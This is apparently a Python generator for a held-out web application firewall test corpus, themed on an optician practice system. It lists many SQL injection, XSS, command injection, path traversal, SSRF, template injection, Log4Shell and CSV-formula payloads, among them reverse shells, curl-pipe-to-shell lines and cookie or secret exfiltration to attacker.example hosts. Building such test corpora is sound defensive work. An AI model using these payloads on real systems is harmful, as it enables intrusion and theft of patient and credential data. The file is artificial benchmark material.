#!/usr/bin/env python3
"""Attack corpus for the opticians held-out WAF corpus. Standard library only."""
import json
import os
import random

SEED = 35102
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

# Each entry: (class, value). All hand-written for an optician practice system.
A = {}

A["sqli"] = [
    ("union", "smith' UNION SELECT patient_id, nhs_number, dob FROM patients-- -"),
    ("union", "O'Brien' union all select null,username,password_hash,null from staff_users#"),
    ("union", "-1 UNION SELECT 1,group_concat(email SEPARATOR 0x3a),3 FROM patients"),
    ("union", "4471) UNION SELECT card_last4, card_token, NULL FROM payments WHERE (1=1"),
    ("union", "Acuvue' UnIoN SeLeCt table_name,2,3 FrOm information_schema.tables-- x"),
    ("union", "Ray-Ban'/**/UNION/**/SELECT/**/column_name,2/**/FROM/**/information_schema.columns/**/WHERE/**/table_name='prescriptions'--"),
    ("union", "-2.25' UNION SELECT sph, cyl, axis, patient_name FROM prescriptions WHERE '1'='1"),
    ("union", "eye test' union select string_agg(usename,','),null from pg_user--"),
    ("union", "0 UNION SELECT name, sql FROM sqlite_master WHERE type='table'"),
    ("union", "BK-88213' UNION SELECT @@version,user(),database()-- "),
    ("union", "job 55821' union/*!50000select*/ login,pass from lab_accounts-- -"),
    ("union", "x') UNION SELECT TOP 5 surname, nhs_no FROM dbo.Patients--"),
    ("tautology", "' OR '1'='1' -- "),
    ("tautology", "Patel' OR 1=1#"),
    ("tautology", "admin'-- "),
    ("tautology", "4471 or 2>1"),
    ("tautology", "CL-3321' OR 'a'<'b"),
    ("tautology", "jo.bloggs@example.org' or true-- -"),
    ("tautology", "x' || '1'='1"),
    ("tautology", "') or ('x'='x"),
    ("tautology", "\") OR (\"1\"=\"1\")--"),
    ("tautology", "smith'/**/or/**/'q'like'q"),
    ("tautology", "' OR 3 BETWEEN 1 AND 5-- "),
    ("tautology", "Shah' oR 0x31=0x31 -- "),
    ("stacked", "55821; DROP TABLE lens_jobs;--"),
    ("stacked", "Dailies'; UPDATE contact_lens_orders SET price=0 WHERE 1=1; --"),
    ("stacked", "x'; INSERT INTO staff_users(username,role) VALUES('ghost','admin');--"),
    ("stacked", "2024-06-14'; EXEC xp_cmdshell 'whoami'; --"),
    ("stacked", "recall'; DELETE FROM recall_queue; SELECT '1"),
    ("stacked", "1; COPY (SELECT '') TO PROGRAM 'id'--"),
    ("stacked", "O'Hara'; ALTER USER postgres PASSWORD 'placeholder-pw';--"),
    ("stacked", "tint 15%'; TRUNCATE audit_log; --"),
    ("time-blind", "smith' AND SLEEP(7)-- -"),
    ("time-blind", "4471 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
    ("time-blind", "'; WAITFOR DELAY '0:0:9'--"),
    ("time-blind", "x' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("time-blind", "Patel'||pg_sleep(10)||'"),
    ("time-blind", "1 AND IF(SUBSTRING(version(),1,1)='8',BENCHMARK(5000000,SHA1('x')),0)"),
    ("time-blind", "CL-3321' AND 7=DBMS_PIPE.RECEIVE_MESSAGE('q',8) AND 'a'='a"),
    ("time-blind", "sleep clinic' AND (SELECT CASE WHEN (1=1) THEN sqlite3_sleep(3000) END)-- "),
    ("time-blind", "-1 OR SLEEP/**/(5)#"),
    ("boolean-blind", "4471 AND SUBSTRING((SELECT password_hash FROM staff_users LIMIT 1),1,1)='$'"),
    ("boolean-blind", "smith' AND ASCII(SUBSTR((SELECT nhs_number FROM patients WHERE id=1),1,1))>52-- "),
    ("boolean-blind", "O'Neil' AND (SELECT COUNT(*) FROM staff_users WHERE role='admin')>0 AND 'z'='z"),
    ("boolean-blind", "1 AND LENGTH(database())=8"),
    ("boolean-blind", "frame' AND EXISTS(SELECT * FROM payments)-- "),
    ("boolean-blind", "x' AND MID(user(),1,4)='root"),
    ("error", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password_hash FROM staff_users LIMIT 1)))-- "),
    ("error", "1 AND UPDATEXML(1,CONCAT(0x2e,version()),1)"),
    ("error", "x' AND 1=CONVERT(int,(SELECT TOP 1 surname FROM Patients))--"),
    ("error", "4471 AND 1=CAST((SELECT current_user) AS int)"),
    ("error", "' || (SELECT utl_inaddr.get_host_name((SELECT user FROM dual)) FROM dual)||'"),
    ("error", "job' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@hostname)),1)-- "),
    ("order-by", "surname ASC, (SELECT CASE WHEN (SELECT 1)=1 THEN 1 ELSE 1/0 END)"),
    ("order-by", "last_test,(select sleep(4))"),
    ("order-by", "1 ORDER BY 9-- -"),
    ("order-by", "dob DESC; SELECT pg_sleep(5)--"),
    ("order-by", "(CASE WHEN (SELECT substr(password_hash,1,1) FROM staff_users LIMIT 1)='a' THEN surname ELSE dob END)"),
    ("file", "' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("file", "1 UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/cl.php'"),
    ("file", "x'; SELECT pg_read_file('/etc/shadow'); --"),
    ("oob", "4471; EXEC master..xp_dirtree '\\\\sq1.attacker.example\\share'--"),
    ("oob", "x' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM staff_users LIMIT 1),'.oob.attacker.example\\\\a'))-- "),
    ("obfuscated", "smith'%20UNION%20SELECT%20nhs_number%2Cdob%20FROM%20patients--%20"),
    ("obfuscated", "Patel%2527%2520OR%25201%253D1--"),
    ("obfuscated", "ｓｍｉｔｈ＇ ＯＲ １＝１－－"),
    ("obfuscated", "x'/*!UNION*//*!SELECT*/password_hash,2/*!FROM*/staff_users-- -"),
    ("obfuscated", "O'Neil' uNiOn%0aSeLeCt%0ausername,password_hash%0afrom%0astaff_users--"),
]

SQLI_URLENC_POOL = [
    "' OR 'x'='x' -- ",
    "4471 UNION SELECT surname,nhs_number FROM patients",
    "'; DROP TABLE appointments; --",
    "smith' AND SLEEP(6)#",
    "x' AND 1=CONVERT(int,@@version)--",
    "-1' union select username,password_hash from staff_users-- -",
]
SQLI_PREFIXES = ["Dr Patel", "order CL-3390", "job 55833", "Mrs D'Souza", "2024-07-01",
                 "frame AC-ROUND-50", "recall June", "NHS 943 476"]
SQLI_SUFFIX_POOL = ["' OR 'k'='k", "' UNION SELECT card_token,2 FROM payments-- -",
                    "' AND SLEEP(8)-- ", "'; DELETE FROM prescriptions--",
                    "' AND 1=(SELECT COUNT(*) FROM staff_users)-- ",
                    "' AND 1=CAST(version() AS int)-- "]

A["xss"] = [
    ("script-tag", "Thanks for the new specs!<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "Mrs O'Hara<script src=//attacker.example/x.js></script>"),
    ("script-tag", "<ScRiPt>new Image().src='//203.0.113.9/s?'+localStorage.token</sCrIpT>"),
    ("script-tag", "frame ready </textarea><script>alert(document.domain)</script>"),
    ("script-tag", "<script>document.location='https://attacker.example/p?c='+encodeURIComponent(document.cookie)</script>"),
    ("script-tag", "</title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script type=module>import('//attacker.example/m.js')</script>"),
    ("event-handler", "<img src=x onerror=alert(1)>"),
    ("event-handler", "Tortoise frame <img src=\"frame.jpg\" onerror=\"this.src='//attacker.example/?'+document.cookie\">"),
    ("event-handler", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("event-handler", "<body onload=location='//attacker.example'>"),
    ("event-handler", "<details open ontoggle=alert(document.cookie)>"),
    ("event-handler", "<input autofocus onfocus=alert`1`>"),
    ("event-handler", "<video><source onerror=\"javascript:alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=confirm(1)>eye test due</marquee>"),
    ("event-handler", "<div style=\"width:1000px;height:1000px\" onmouseover=\"alert(1)\">hover</div>"),
    ("event-handler", "<audio src=1 onerror=import('//attacker.example/a.js')>"),
    ("event-handler", "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>-2.25</option></select>"),
    ("event-handler", "<textarea autofocus onfocusin=alert(1)>note</textarea>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<object data=x onerror=alert(2)></object>"),
    ("event-handler", "<x contenteditable onblur=alert(1)>click me then away"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("event-handler", "<img src=1 oNeRrOr=prompt(8)>"),
    ("attr-breakout", "\" onmouseover=\"alert(document.cookie)"),
    ("attr-breakout", "Smith\" autofocus onfocus=\"fetch('//attacker.example/'+document.cookie)\" x=\""),
    ("attr-breakout", "' onclick='alert(1)' data-x='"),
    ("attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attr-breakout", "-2.00'><svg/onload=alert(1)>"),
    ("attr-breakout", "x\" style=\"animation-name:spin\" onanimationstart=\"alert(1)"),
    ("js-context", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-context", "\";fetch('//attacker.example/?c='+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "${alert(document.domain)}"),
    ("js-context", "\\';alert(1);//"),
    ("js-context", "'-alert(1)-'"),
    ("uri-scheme", "javascript:alert(document.cookie)"),
    ("uri-scheme", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">view your prescription</a>"),
    ("uri-scheme", "jAvAsCrIpT:alert(1)"),
    ("uri-scheme", "java\tscript:alert(1)"),
    ("uri-scheme", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Rx PDF</a>"),
    ("uri-scheme", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("uri-scheme", "<form action=javascript:alert(1)><button>Book</button></form>"),
    ("uri-scheme", "<a href=\"&#106;avascript:alert(1)\">booking link</a>"),
    ("uri-scheme", "<a href=\"javascript&colon;alert(1)\">x</a>"),
    ("uri-scheme", "<embed src=\"javascript:alert(1)\">"),
    ("uri-scheme", "[Book here](javascript:alert(document.cookie))"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("encoded", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("svg", "<svg><script>alert(1)</script></svg>"),
    ("svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Rx</text></a></svg>"),
    ("svg", "<svg><set attributeName=onmouseover to=alert(1) />"),
    ("svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("mutation", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">"),
    ("css", "<style>@import'//attacker.example/x.css';</style>"),
    ("css", "<div style=\"background:url(javascript:alert(1))\">"),
    ("css", "<link rel=stylesheet href=//attacker.example/s.css>"),
    ("template-client", "{{constructor.constructor('alert(1)')()}}"),
    ("template-client", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
    ("template-client", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
]

XSS_PREFIXES = ["Pick up Sat", "Re: order #FO-21001", "Dear Dr Shah,", "Lens rotates",
                "My new varifocals", "Hi, it's Kate O'Neil", "Job 55840 note:",
                "Rate us 5 stars"]
XSS_POOL = ["<img src=q onerror=fetch('//attacker.example/x?'+document.cookie)>",
            "<svg/onload=alert(document.domain)>", "<script>alert(origin)</script>",
            "<iframe src=javascript:alert(7)>", "\"><details open ontoggle=alert(1)>",
            "<a href=javascript:alert(1)>details</a>",
            "<body onresize=alert(1)>", "<img src=//attacker.example/p.png onload=alert(2)>",
            "<svg><foreignObject><iframe srcdoc='<script>parent.alert(3)</script>'>",
            "<input value=x onpointerenter=alert(4)>"]

A["cmdi"] = [
    ("separator", "trace_55821.oma; cat /etc/passwd"),
    ("separator", "recall_2024_06.csv;id"),
    ("separator", "logo.png && curl -s https://attacker.example/i.sh | sh"),
    ("separator", "55821 | nc 203.0.113.7 4444 -e /bin/sh"),
    ("separator", "Rx_ODonnell.pdf || wget http://198.51.100.4/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"),
    ("separator", "report.pdf; rm -rf /var/exports/*"),
    ("separator", "scan.png & whoami &"),
    ("separator", "job55821.oma%0Aid"),
    ("separator", "recall.csv\nuname -a"),
    ("separator", "x;/bin/bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("separator", "topo.png; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "receipt.pdf;echo cGluZw== | base64 -d | sh"),
    ("separator", "lab.oma | tee /var/www/html/.s.php <<< '<?php passthru($_GET[1]);'"),
    ("separator", "x & ping -n 3 203.0.113.2 &"),
    ("separator", "invoice.pdf & type C:\\Windows\\win.ini"),
    ("separator", "scan.jpg | powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("separator", "trace.oma; crontab -l | { cat; echo '* * * * * curl attacker.example/b|sh'; } | crontab -"),
    ("separator", "55821;sleep 9;"),
    ("separator", "Rx.pdf\r\ncat /proc/self/environ"),
    ("separator", "recall.csv; mail -s loot ops@attacker.example < /etc/shadow"),
    ("separator", "logo.svg && cp /var/lib/practice/db.sqlite /var/www/html/x.db"),
    ("separator", "x ; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(53,inet_aton(\"203.0.113.80\")));open(STDIN,\">&S\");exec(\"/bin/sh\")'"),
    ("separator", "scan.png;php -r '$s=fsockopen(\"198.51.100.77\",8080);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("substitution", "$(curl -fsSL attacker.example/x|bash)"),
    ("substitution", "trace_`id`.oma"),
    ("substitution", "Rx_$(whoami).pdf"),
    ("substitution", "recall-$(cat /etc/hostname).csv"),
    ("substitution", "`wget -qO- 203.0.113.14/s|sh`"),
    ("substitution", "job_$(sleep 8).oma"),
    ("substitution", "logo$(nslookup $(whoami).dns.attacker.example).png"),
    ("substitution", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
    ("substitution", "scan_$(</etc/passwd).jpg"),
    ("substitution", "report-`uname -a|nc 203.0.113.5 80`.pdf"),
    ("substitution", "<(curl attacker.example/z)"),
    ("ifs-evasion", "x;cat${IFS}/etc/passwd"),
    ("ifs-evasion", "55821;{cat,/etc/shadow}"),
    ("ifs-evasion", "scan.png;c\\at /et\\c/pas\\swd"),
    ("ifs-evasion", "trace.oma;w'h'o'a'm'i"),
    ("ifs-evasion", "x;/???/c?t /???/p??s??"),
    ("ifs-evasion", "a;$'\\x69\\x64'"),
    ("ifs-evasion", "r.pdf;X=$'cat\\x20/etc/passwd';eval $X"),
    ("ifs-evasion", "r.pdf;c\"\"url$IFS-s$IFS//attacker.example/k|sh"),
    ("ifs-evasion", "x;$(printf '\\167\\150\\157\\141\\155\\151')"),
    ("ifs-evasion", "recall.csv;who$@ami"),
    ("ifs-evasion", "x;ca$()t</etc/hosts"),
    ("ifs-evasion", "j.oma;${PATH:0:1}bin${PATH:0:1}sh -c id"),
    ("ifs-evasion", "x%3Bcat%20%2Fetc%2Fpasswd"),
    ("ifs-evasion", "x%0a/usr/bin/id%0a"),
    ("argument-injection", "-oProxyCommand=sh -c 'curl attacker.example/s|sh' lab@sftp"),
    ("argument-injection", "--output=/var/www/html/s.php http://attacker.example/s.txt"),
    ("argument-injection", "logo.png -write /var/www/html/x.php"),
    ("argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/r.sh"),
    ("argument-injection", "recall.csv -exec /bin/sh -c id ;"),
    ("argument-injection", "-e '/bin/sh' 203.0.113.33 4444"),
    ("argument-injection", "--upload-file /etc/passwd https://attacker.example/u"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/$(id))'\npop graphic-context"),
    ("imagemagick", "scan.png' -resize 10x10 ';id;'"),
    ("windows", "report.pdf | certutil -urlcache -split -f http://198.51.100.9/p.exe %TEMP%\\p.exe"),
    ("windows", "x & net user ghost Passw0rd-placeholder /add"),
    ("windows", "scan.png&&cmd /c \"dir C:\\Users\""),
    ("windows", "x | powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("windows", "recall.csv^&^&whoami"),
    ("windows", "a.pdf & %COMSPEC% /c ver"),
    ("windows", "x;Start-Process calc"),
]
CMDI_PREFIXES = ["trace_55902.oma", "Rx_Patel_2024.pdf", "recall_2024_07.csv",
                 "topo_4471.png", "invoice-FO-21001.pdf", "cl_export.xlsx"]
CMDI_POOL = ["; curl attacker.example/q.sh|sh", " && id", " | nc 198.51.100.6 9000 -e sh",
             "$(sleep 11)", "`cat /etc/passwd`", "; wget -q 203.0.113.40/x -O-|sh",
             "|| bash -c 'exec 5<>/dev/tcp/203.0.113.66/53;sh <&5 >&5'", "; ls -la /var/lib/practice"]

A["traversal"] = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "trace_55821.oma/../../../../../etc/shadow"),
    ("dotdot", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot", "reports/2024/../../../../var/lib/practice/config.yml"),
    ("dotdot", "../../../../proc/self/environ"),
    ("dotdot", "logo.png/../../../.env"),
    ("dotdot", "../../../../home/practice/.ssh/id_rsa"),
    ("dotdot", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "Rx_4471.pdf/../../../../root/.bash_history"),
    ("dotdot", "../../../var/log/nginx/access.log"),
    ("dotdot", "../../../../usr/local/etc/php/php.ini"),
    ("dotdot", "../../WEB-INF/web.xml"),
    ("dotdot", "recall/../../../../../../etc/hosts"),
    ("dotdot", "..././..././..././etc/passwd"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "....\\\\....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts"),
    ("dotdot", "scan.jpg%00/../../../../etc/passwd"),
    ("dotdot", "../../../../etc/passwd%00.pdf"),
    ("dotdot", "..;/..;/..;/admin/config"),
    ("dotdot", "/static/frames/..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/var/lib/practice/db.sqlite"),
    ("encoded", ".%2e/.%2e/.%2e/.%2e/etc/group"),
    ("encoded", "..%255c..%255c..%255cboot.ini"),
    ("encoded", "．．／．．／．．／etc／passwd"),
    ("encoded", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("encoded", "%2E%2E%5C%2E%2E%5C%2E%2E%5Cweb.config"),
    ("absolute", "/etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute", "/proc/self/cmdline"),
    ("absolute", "file:///etc/shadow"),
    ("absolute", "\\\\203.0.113.44\\share\\payload.pdf"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("absolute", "C:/inetpub/wwwroot/web.config"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/topo_4471.zip%23shell.php"),
    ("wrapper", "phar://uploads/scan_4471.jpg/x.php"),
    ("wrapper", "expect://id"),
    ("wrapper", "jar:file:///opt/app/lib/app.jar!/application.properties"),
]
TRAV_URLENC_POOL = [
    "../../../../etc/passwd",
    "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "reports/../../../../proc/self/environ",
    "../../../var/lib/practice/.env",
    "/etc/shadow",
]

A["ssrf"] = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/project/"),
    ("metadata", "http://100.100.100.200/latest/meta-data/"),
    ("metadata", "http://169.254.170.2/v2/credentials/"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://0xA9FEA9FE/latest/user-data"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("alt-ip", "http://0x7f.1/admin"),
    ("alt-ip", "http://2130706433:8080/actuator/env"),
    ("alt-ip", "http://017700000001/server-status"),
    ("alt-ip", "http://127.1/admin/users"),
    ("alt-ip", "http://0/"),
    ("alt-ip", "http://[::1]:6379/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("alt-ip", "http://0x0a.0.0.0x05:8500/v1/agent/self"),
    ("internal", "http://localhost:8080/manager/html"),
    ("internal", "http://127.0.0.1:9200/_cat/indices"),
    ("internal", "http://10.0.0.12:2375/containers/json"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.17.0.1:10250/pods"),
    ("internal", "http://lab-portal.internal/api/jobs?export=all"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://consul:8500/v1/kv/?recurse"),
    ("internal", "https://127.0.0.1:8443/actuator/heapdump"),
    ("internal", "http://localhost:15672/api/users"),
    ("internal", "http://10.10.4.20/phpmyadmin/"),
    ("scheme", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40attacker.example%3E"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///var/lib/practice/config/secrets.yml"),
    ("scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("scheme", "tftp://203.0.113.61/frame.png"),
    ("scheme", "netdoc:///etc/passwd"),
    ("scheme", "sftp://198.51.100.2:11111/"),
    ("confusion", "https://shop.example.com@169.254.169.254/latest/meta-data/"),
    ("confusion", "http://clearview.example.com.attacker.example/logo.svg"),
    ("confusion", "http://127.0.0.1#@cdn.example.com/frames/round.jpg"),
    ("confusion", "http://attacker.example\\@cdn.example.com/logo.png"),
    ("confusion", "https://cdn.example.com%2F@10.0.0.5/"),
    ("confusion", "http://127.0.0.1.rebind.attacker.example:8080/admin"),
    ("redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "http://rebind.attacker.example/frames/feed.xml"),
    ("redirect", "https://attacker.example/302.php?u=gopher://127.0.0.1:6379/_INFO"),
    ("embedded", "Frame image URL: http://169.254.169.254/latest/meta-data/iam/"),
    ("embedded", "{\"webhook\": \"http://127.0.0.1:2379/v2/keys/?recursive=true\"}"),
]

A["code"] = [
    ("ssti", "Dear {{ first_name }}, {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/t|sh').read() }}"),
    ("ssti", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("ssti", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti", "{{ config.items() }}"),
    ("ssti", "{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}"),
    ("ssti", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"),
    ("ssti", "{{ request|attr(['_'*2,'class','_'*2]|join) }}"),
    ("ssti", "{{7*'7'}} {{ namespace.__init__.__globals__.os.system('id') }}"),
    ("ssti", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/j')}"),
    ("ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"whoami\")"),
    ("ssti", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti", "{{['id']|filter('system')}}"),
    ("ssti", "<%= `id` %>"),
    ("ssti", "<%= File.read('/etc/passwd') %>"),
    ("ssti", "{php}echo shell_exec('id');{/php}"),
    ("ssti", "{system('cat /etc/passwd')}"),
    ("ssti", "#{ 'x'.class.forName('java.lang.Runtime').getRuntime().exec('id') }"),
    ("ssti", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("ssti", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{this.constructor.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}"),
    ("ssti", "<%- global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti", "#{7*7}${\"\".getClass().forName(\"java.lang.Runtime\")}"),
    ("ssti", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("el", "${pageContext.request.getSession().setAttribute('role','admin')}"),
    ("el", "#{facesContext.externalContext.request.getParameter('x')}${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("el", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el", "${@java.lang.Runtime@getRuntime().exec('touch /tmp/pwn')}"),
    ("el", "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()"),
    ("el", "T(java.lang.System).getenv()"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/Rx}"),
    ("log4shell", "Mrs O'Hara ${jndi:rmi://203.0.113.21/obj}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://198.51.100.8/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.dns.attacker.example}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/x}"),
    ("log4shell", "${jndi:ldaps://attacker.example/${sys:java.version}}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("eval", "__import__('os').system('curl attacker.example/p|sh')"),
    ("eval", "require('child_process').exec('nc 203.0.113.3 4444 -e /bin/sh')"),
    ("eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval", "eval(compile('import os\\nos.system(\"id\")','x','exec'))"),
    ("eval", "system('id'); // PHP"),
    ("eval", "<?php echo passthru($_REQUEST['c']); ?>"),
    ("eval", "<?=`$_GET[0]`?>"),
    ("eval", "1;phpinfo();"),
    ("eval", "\");exec('cat /etc/passwd');#"),
    ("eval", "'+require(\"child_process\").execSync(\"id\")+'"),
    ("eval", "Runtime.getRuntime().exec(\"curl attacker.example/x\")"),
    ("eval", "[].constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("eval", "os.execute('id')"),
    ("eval", "`id`.to_s; Kernel.exec('sh')"),
    ("prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("prototype-pollution", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("prototype-pollution", "settings[__proto__][shell]=/proc/self/exe"),
    ("prototype-pollution", "{\"lens\":\"-2.25\",\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}"),
    ("prototype-pollution", "constructor.prototype.allowAll=true"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View Rx\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/s.ps1|iex'!A1"),
    ("csv-formula", "-2+3+cmd|'/c notepad'!'A1'"),
    ("csv-formula", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-formula", "=WEBSERVICE(\"https://attacker.example/l?\"&C4)"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:A9),\"//a\")"),
